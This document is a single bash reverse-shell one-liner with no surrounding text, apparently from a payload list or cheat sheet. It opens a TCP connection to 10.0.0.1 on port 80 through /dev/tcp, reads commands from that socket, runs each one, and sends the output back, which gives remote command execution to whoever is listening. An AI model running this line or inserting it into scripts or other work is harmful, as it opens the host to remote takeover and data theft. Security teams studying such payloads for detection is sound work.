exec 5<>/dev/tcp/10.0.0.1/80; cat <&5 | while read l; do $l 2>&5 >&5; done
